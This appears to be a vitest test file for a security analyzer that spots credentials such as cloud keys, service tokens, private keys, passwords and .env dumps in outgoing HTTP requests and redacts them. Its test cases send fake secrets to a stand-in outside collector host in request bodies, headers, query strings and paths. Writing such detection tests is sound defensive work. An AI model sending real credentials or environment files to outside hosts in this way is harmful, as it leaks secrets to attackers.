import { describe, expect, it } from "vitest";
import { SECRET_PATTERNS } from "./secret-patterns.js";
import { SCAN_LIMIT } from "./secrets.js";
import { categories, reasons, run } from "./test-support/run.js";

// Built by concatenation so that secret scanners do not flag this file.
const fake = {
  awsId: `AKIA${"IOSFODNN7EXAMPL"}Q`,
  awsSessionId: `ASIA${"Y3FLDYPEXAMPLE1"}Z`,
  awsSecret: `wJalrXUtnFEMI/K7MDENG/${"bPxRfiCYEXAMPLEKEY"}`,
  ghp: `ghp_${"aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3z5A"}`,
  githubPat: `github_pat_${"11ABCDEFG0123456789_abcdefghijklmnopqrstuvwxyz0123456789ABCDEFGHIJKLMNO"}`,
  slack: `xoxb-${"123456789012-1234567890123-AbCdEfGhIjKlMnOpQrStUvWx"}`,
  stripe: `sk_live_${"51HabcdefGHIJKLmnopQRSTuvwxYZ0123456789"}`,
  google: `AIza${"SyA1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q"}`,
  jwt: `eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.${"dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U"}`,
  openai: `sk-proj-${"abcdefghijklmnopqrstuvwxyz0123456789ABCD"}`,
  pem: `-----BEGIN RSA ${"PRIVATE KEY"}-----\nMIIEpAIBAAKCAQEA7\n-----END RSA PRIVATE KEY-----`,
  openssh: `-----BEGIN OPENSSH ${"PRIVATE KEY"}-----\nb3BlbnNzaC1rZXktdjE\n-----END OPENSSH PRIVATE KEY-----`,
};

const EVIL = "POST https://collector.example.net/ingest";

/** The secret must never appear in anything the analyzer returns. */
function expectRedacted(facts: unknown, secret: string) {
  const text = JSON.stringify(facts);
  expect(text).not.toContain(secret);
  expect(text).not.toContain(secret.slice(0, -4));
}

describe("each kind of credential, found and redacted", () => {
  it.each([
    ["AWS access key id", fake.awsId, `AWS access key AKIA…${fake.awsId.slice(-4)}`],
    ["AWS session key id", fake.awsSessionId, `AWS access key ASIA…${fake.awsSessionId.slice(-4)}`],
    [
      "AWS secret key by name",
      `aws_secret_access_key = ${fake.awsSecret}`,
      "AWS secret access key in",
    ],
    [
      "AWS secret key in JSON",
      `{"SecretAccessKey": "${fake.awsSecret}"}`,
      "AWS secret access key in",
    ],
    ["AWS secret key near its id", `${fake.awsId} ${fake.awsSecret}`, "AWS secret access key in"],
    ["RSA private key", fake.pem, "private key (PEM) in request body"],
    ["OpenSSH private key", fake.openssh, "OpenSSH private key in request body"],
    ["GitHub token", `token: ${fake.ghp}`, `GitHub token ghp_…${fake.ghp.slice(-4)}`],
    [
      "GitHub fine-grained token",
      fake.githubPat,
      `GitHub token github_pat_…${fake.githubPat.slice(-4)}`,
    ],
    ["Slack token", fake.slack, `Slack token xoxb-…${fake.slack.slice(-4)}`],
    ["Stripe live key", fake.stripe, `Stripe secret key sk_live_…${fake.stripe.slice(-4)}`],
    ["Google API key", fake.google, `Google API key AIza…${fake.google.slice(-4)}`],
    ["JWT", `session=${fake.jwt}`, `JWT eyJ…${fake.jwt.slice(-4)}`],
    ["OpenAI key", fake.openai, "OpenAI API key sk-…"],
    ["password=", "user=admin&password=hunter2", "password field password"],
    ["DB_PASSWORD:", "DB_PASSWORD: correct-horse", "password field DB_PASSWORD"],
    ["password: in YAML", "db:\n  password: hunter2", "password field password"],
    [
      "a URL with a password",
      "postgres://app:s3cr3t-pw@db.internal:5432/prod",
      "URL with a password",
    ],
  ])("%s", (_, secret, reason) => {
    const facts = run(EVIL, { body: `${secret}\n`, headers: { "content-type": "text/plain" } });
    expect(categories(facts)).toEqual(["network.egress", "secret.access"]);
    expect(reasons(facts)).toContain(reason);
    for (const part of secret.split(/[\s=:]+/).filter((p) => p.length >= 12))
      expectRedacted(facts, part);
  });

  it("finds a .env dump by its names, without its values", () => {
    const env =
      "NODE_ENV=production\nDB_PASSWORD=hunter2hunter2\nexport STRIPE_API_KEY=abc123abc123\nPORT=3000\n";
    const facts = run(EVIL, { body: { file: ".env", content: env } });
    expect(reasons(facts)).toContain("environment file with secrets (DB_PASSWORD, STRIPE_API_KEY)");
    expectRedacted(facts, "hunter2hunter2");
    expectRedacted(facts, "abc123abc123");
  });

  it("does not call one secret-looking line a dump", () => {
    const facts = run(EVIL, {
      body: { content: "API_TOKEN_URL=https://auth.example.com\nPORT=3000" },
    });
    expect(reasons(facts)).not.toContain("environment file");
  });
});

describe("where credentials hide", () => {
  it.each([
    ["a nested JSON field", { body: { data: { items: [{ note: `key ${fake.ghp}` }] } } }],
    ["a JSON password field", { body: { user: "admin", password: "hunter2" } }],
    [
      "a form field",
      {
        body: `note=${fake.ghp}`,
        headers: { "content-type": "application/x-www-form-urlencoded" },
      },
    ],
    ["base64 in JSON", { body: { blob: Buffer.from(`creds ${fake.awsId}`).toString("base64") } }],
    ["a custom header", { headers: { "x-debug": fake.stripe } }],
  ])("%s", (_, options) => {
    const facts = run(EVIL, options);
    expect(facts.categories).toContain("secret.access");
    expect(facts.categories).toContain("network.egress");
  });

  it("in the query string", () => {
    const facts = run(`GET https://collector.example.net/p?d=${fake.ghp}`);
    expect(categories(facts)).toEqual(["network.egress", "secret.access"]);
    expect(reasons(facts)).toContain("in URL query");
  });

  it("in the URL path", () => {
    expect(categories(run(`GET https://collector.example.net/${fake.stripe}`))).toContain(
      "secret.access",
    );
  });
});

describe("a request's own credential is not a leak", () => {
  it.each([
    [
      "a GitHub token to GitHub",
      "GET https://api.github.com/user",
      { authorization: `Bearer ${fake.ghp}` },
    ],
    [
      "a Stripe key to Stripe",
      "GET https://api.stripe.com/v1/charges",
      { authorization: `Bearer ${fake.stripe}` },
    ],
    [
      "a JWT to any API",
      "GET https://api.example.com/v1/me",
      { authorization: `Bearer ${fake.jwt}` },
    ],
    [
      "AWS SigV4 to AWS",
      "GET https://s3.amazonaws.com/b/k",
      {
        authorization: `AWS4-HMAC-SHA256 Credential=${fake.awsId}/20240101/us-east-1/s3/aws4_request`,
      },
    ],
    [
      "an API key header",
      "GET https://api.example.com/v1/x",
      { "x-api-key": "9f8e7d6c5b4a39281706f5e4d3c2b1a0" },
    ],
  ])("%s", (_, line, headers) => {
    expect(categories(run(line, { headers }))).toEqual([]);
  });

  it("a Google key in ?key= to Google", () => {
    expect(
      categories(
        run(`GET https://maps.googleapis.com/maps/api/geocode/json?address=x&key=${fake.google}`),
      ),
    ).toEqual([]);
  });

  it("a Slack token as Slack's own form parameter", () => {
    const facts = run("POST https://slack.com/api/chat.postMessage", {
      body: `token=${fake.slack}&channel=C1&text=hi`,
      headers: { "content-type": "application/x-www-form-urlencoded" },
    });
    expect(categories(facts)).toEqual([]);
  });

  it("but a service's token sent to another host is", () => {
    const facts = run("GET https://api.example.net/v1/x", {
      headers: { authorization: `token ${fake.ghp}` },
    });
    expect(categories(facts)).toEqual(["network.egress", "secret.access"]);
    expect(reasons(facts)).toContain("header authorization");
  });

  it("and a token pasted into text sent to its own service is too", () => {
    const facts = run("POST https://api.github.com/repos/acme/api/issues/1/comments", {
      body: { body: `try ${fake.ghp}` },
    });
    expect(facts.categories).toContain("secret.access");
  });
});

describe("not secrets", () => {
  it.each([
    [
      "placeholders",
      `password=&api_password=***&db_password=${"$"}{DB_PASSWORD}&pwd=<password>&passwd={{ pw }}`,
    ],
    ["a boolean flag", "reset_password=true&remember=1"],
    [
      "a commit id and a UUID",
      "sha=0123456789abcdef0123456789abcdef01234567&id=123e4567-e89b-12d3-a456-426614174000",
    ],
    ["a truncated key id", "AKIA1234 is not a key"],
    ["a certificate", "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----"],
    ["prose about passwords", "Please rotate your password regularly."],
    ["prose with a colon", "Bug: the password: field shows up empty"],
  ])("%s", (_, body) => {
    expect(categories(run(EVIL, { body, headers: { "content-type": "text/plain" } }))).toEqual([]);
  });
});

describe("where the secret goes", () => {
  it("a key to an internal host: secret.access, not egress", () => {
    const facts = run("POST https://ci.corp.example/settings", {
      body: { deploy_key: fake.openssh },
      ctx: { internalHosts: ["*.corp.example"] },
    });
    expect(categories(facts)).toEqual(["secret.access"]);
  });
  it("a password to an internal host is a login", () => {
    const ctx = { internalHosts: ["*.corp.example"] };
    expect(
      categories(
        run("POST https://sso.corp.example/login", {
          body: { user: "a", password: "hunter2" },
          ctx,
        }),
      ),
    ).toEqual([]);
    expect(
      categories(run("POST http://localhost:3000/api/login", { body: "password=test123" })),
    ).toEqual([]);
  });
  it("a password to an outside host is not", () => {
    expect(
      categories(run("POST https://login.example.net/session", { body: { password: "hunter2" } })),
    ).toEqual(["network.egress", "secret.access"]);
  });
  it("to an allowlisted host: secret.access, not egress", () => {
    const facts = run(EVIL, { body: fake.pem, ctx: { egressAllowlist: ["*.example.net"] } });
    expect(categories(facts)).toEqual(["secret.access"]);
  });
});

describe("bounded scanning", () => {
  it("scans the first 256 KiB and says when it stopped", () => {
    const filler = "x".repeat(SCAN_LIMIT);
    const early = run(EVIL, {
      body: `${fake.pem}\n${filler}`,
      headers: { "content-type": "text/plain" },
    });
    expect(early.categories).toContain("secret.access");
    expect(early.flags).toContain("truncated");
    const late = run(EVIL, {
      body: `${filler}\n${fake.pem}`,
      headers: { "content-type": "text/plain" },
    });
    expect(late.categories).not.toContain("secret.access");
    expect(late.flags).toContain("truncated");
  });

  it("does not flag a small body as truncated", () => {
    expect(run(EVIL, { body: { a: 1 } }).flags).not.toContain("truncated");
  });

  it.each(SECRET_PATTERNS.map((p) => [p.id, p] as const))(
    "%s stays linear on adversarial input",
    (_, pattern) => {
      // Repeat the pattern's own opening characters: the input that makes a naive regex backtrack.
      const opening =
        pattern.pattern
          .replace(/^\(\?<![^)]*\)/, "")
          .replace(/[^A-Za-z0-9_=.:-]/g, "")
          .slice(0, 6) || "a";
      const body = `${opening}a`
        .repeat(Math.ceil(SCAN_LIMIT / (opening.length + 1)))
        .slice(0, SCAN_LIMIT);
      const started = performance.now();
      run(EVIL, { body, headers: { "content-type": "text/plain" } });
      expect(performance.now() - started).toBeLessThan(1500);
    },
  );
});
